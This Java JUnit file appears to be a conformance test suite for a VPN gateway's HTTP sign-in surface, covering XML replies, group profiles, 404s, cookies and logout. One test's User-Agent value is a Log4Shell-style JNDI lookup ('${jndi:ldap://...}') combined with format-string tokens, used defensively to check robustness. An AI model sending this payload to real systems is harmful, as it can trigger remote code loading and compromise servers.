package io.sallyport.server.conformance;

import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.conformance.Requirement;
import io.sallyport.server.testkit.ConfigAuth;
import io.sallyport.server.testkit.HttpConnection;
import io.sallyport.server.testkit.HttpReply;
import io.sallyport.server.testkit.HttpRequest;
import io.sallyport.server.testkit.TestGateway;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Chapter B of the checklist. */
class HttpSurfaceTest {
    @RegisterExtension
    static final TestGateway gateway = TestGateway.standard().with("profiles", """
                    [{name: lab, alias: Laboratory, policy: office}, {name: staff, alias: Staff, url: /staff, policy: office},
                     {name: eng, alias: Engineers, default: true, policy: office}]""");

    private static HttpReply complete;

    @BeforeAll
    static void signIn() throws Exception {
        try (HttpConnection connection = gateway.connect()) {
            complete = gateway.signInOn(connection, TestGateway.USER, TestGateway.PASSWORD);
        }
    }

    @Test
    @Requirement({24, 25})
    void anInitIsAnsweredWithADocument() throws Exception {
        HttpReply reply = gateway.ask(init());

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.text()).startsWith("<?xml");
        assertThat(reply.one("Content-Length")).contains(Integer.toString(reply.body().length));
        assertThat(reply.one("Transfer-Encoding")).isEmpty();
        assertThat(reply.one("Content-Type").orElseThrow()).startsWith("text/xml");
        assertThat(reply.one("X-Aggregate-Auth")).contains("1");
    }

    @Test
    @Requirement(26)
    void xmlThatIsCalledAFormIsXml() throws Exception {
        assertForm(init().without("Content-Type").with("Content-Type: application/x-www-form-urlencoded"), "Engineers");
    }

    @Test
    @Requirement(27)
    void xmlWithoutTheHeaderIsXml() throws Exception {
        assertForm(init().without("X-Aggregate-Auth"), "Engineers");
    }

    @Test
    @Requirement(28)
    void aGroupUrlLeadsToItsProfile() throws Exception {
        assertForm(HttpRequest.post("/staff", ConfigAuth.init()), "Staff");
        assertForm(HttpRequest.post("/staff?x=1", ConfigAuth.init()), "Staff");
        assertForm(
                HttpRequest.post(
                        "/", ConfigAuth.bareInit("<group-access>https://vpn.example.net/staff</group-access>")),
                "Staff");
    }

    @Test
    @Requirement(29)
    void anUnknownPathLeadsToTheDefaultProfile() throws Exception {
        assertForm(HttpRequest.post("/unknown", ConfigAuth.init()), "Engineers");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/unknown", "/index.html", "/staff/", "/+CSCOE+/logon.html", "/favicon.ico"})
    @Requirement(30)
    void anUnknownPageIs404(String path) throws Exception {
        HttpConnection connection = gateway.connect();

        HttpReply reply = connection.send(HttpRequest.get(path));

        assertThat(reply.status()).isEqualTo(404);
        assertThat(reply.one("Connection")).contains("close");
        assertThat(reply.body()).isEmpty();
        assertThat(connection.isClosedByGateway()).isTrue();
    }

    @Test
    @Requirement(31)
    void headHasNoBody() throws Exception {
        HttpConnection connection = gateway.connect();

        assertThat(connection.send(HttpRequest.head("/")).status()).isEqualTo(200);
        assertThat(connection.send(HttpRequest.get("/")).status())
                .as("what follows is no body")
                .isEqualTo(200);
    }

    @Test
    @Requirement(35)
    void aConnectionServesOneRequestAfterAnother() throws Exception {
        HttpConnection connection = gateway.connect();
        for (int request = 0; request < 3; request++) {
            HttpReply reply = connection.send(init());

            assertThat(reply.xml().hasForm()).isTrue();
            assertThat(reply.one("Connection")).contains("Keep-Alive");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Mozilla/5.0", "%s%n${jndi:ldap://192.0.2.1/x}"})
    @Requirement(42)
    void anyUserAgentIsServed(String agent) throws Exception {
        assertForm(init().without("User-Agent").with("User-Agent: " + agent), "Engineers");
        assertForm(init().without("User-Agent"), "Engineers");
    }

    @Test
    @Requirement(43)
    void aClientOfHttpAuthenticationGetsTheForm() throws Exception {
        assertForm(init().with("X-Support-HTTP-Auth: true"), "Engineers");
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 63, 4000})
    @Requirement(44)
    void paddingMeansNothing(int length) throws Exception {
        assertForm(init().with("X-Pad: " + "0".repeat(length)), "Engineers");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "webvpncontext=%s; webvpn=; webvpnlogin=1",
                "webvpnlogin=1; webvpnc=bu:/CACHE/stc/&p:t&iu:1/&sh:00; webvpncontext=%s",
                "a=\"b c\"; webvpncontext=%s; webvpn_as=x"
            })
    @Requirement(45)
    void ourCookiesAreFoundAmongOthers(String cookies) throws Exception {
        String handle = gateway.ask(init()).cookieValue("webvpncontext");

        HttpReply reply =
                gateway.ask(HttpRequest.post("/", ConfigAuth.replyWithoutHandle(TestGateway.USER, TestGateway.PASSWORD))
                        .with("Cookie: " + cookies.formatted(handle)));

        assertThat(reply.xml().type()).isEqualTo("complete");
        String cookie = reply.cookieValue("webvpn");
        HttpRequest connect =
                HttpRequest.connect("/CSCOSSLC/tunnel", "Cookie: webvpncontext=x; webvpn=" + cookie + "; webvpnc=y");
        assertThat(gateway.ask(connect).status()).isEqualTo(200);
    }

    @Test
    @Requirement(46)
    void theCookieOfTheSignInIsGuarded() throws Exception {
        String cookie = gateway.ask(init()).cookie("webvpncontext").getFirst();

        assertThat(attributes(cookie)).contains("Secure", "HttpOnly", "Max-Age=300");
    }

    @Test
    @Requirement(47)
    void theCookieOfTheSessionIsGuardedAndHardToGuess() throws Exception {
        Set<String> values = new HashSet<>();
        for (int session = 0; session < 5; session++) {
            values.add(gateway.signIn());
        }

        assertThat(attributes(complete.cookie("webvpn").getFirst())).contains("Secure", "HttpOnly");
        assertThat(complete.cookieValue("webvpn"))
                .matches("[A-Za-z0-9@_-]+")
                .hasSizeGreaterThanOrEqualTo(22); // base64 of 128 bits
        assertThat(values).hasSize(5);
    }

    @Test
    @Requirement(48)
    void theDownloadersCookieIsClearedAndSet() {
        List<String> cookies = complete.cookie("webvpnc");

        assertThat(cookies).hasSize(2);
        assertThat(cookies.getFirst()).startsWith("webvpnc=; expires=Thu, 01 Jan 1970");
        assertThat(complete.cookieValue("webvpnc")).matches("bu:/CACHE/stc/&p:t&iu:1/&sh:[0-9A-F]{40}&lu:[^&]+");
    }

    @Test
    @Requirement(50)
    void aClientWithoutVersionGetsTheForm() throws Exception {
        String init = ConfigAuth.init().replace(" aggregate-auth-version=\"2\"", "");

        assertForm(HttpRequest.post("/", init), "Engineers");
    }

    @Test
    @Requirement(51)
    void version2IsAgreedOn() throws Exception {
        assertThat(gateway.ask(init()).xml().at("/config-auth/@aggregate-auth-version"))
                .isEqualTo("2");
    }

    @Test
    @Requirement(52)
    void whoLogsOutIsOut() throws Exception {
        String cookie = gateway.signIn();

        HttpReply reply = gateway.ask(HttpRequest.post("/", ConfigAuth.logout(cookie)));

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.body()).isEmpty();
        assertThat(List.of("webvpn", "webvpnc", "webvpncontext"))
                .allSatisfy(name -> assertThat(reply.cookieValue(name)).isEmpty());
        assertThat(gateway.tryConnect(cookie).status()).isEqualTo(401);
    }

    @Test
    @Requirement(53)
    void loggingOutOfNothingIsNoError() throws Exception {
        assertThat(gateway.ask(HttpRequest.post("/", ConfigAuth.logout("no-such-token")))
                        .status())
                .isEqualTo(200);
    }

    private static HttpRequest init() {
        return HttpRequest.post("/", ConfigAuth.init());
    }

    private static void assertForm(HttpRequest request, String group) throws Exception {
        HttpReply reply = gateway.ask(request);

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.xml().hasForm()).isTrue();
        assertThat(reply.xml().selectedGroup()).isEqualTo(group);
    }

    private static List<String> attributes(String cookie) {
        return List.of(cookie.split("; ", -1));
    }
}
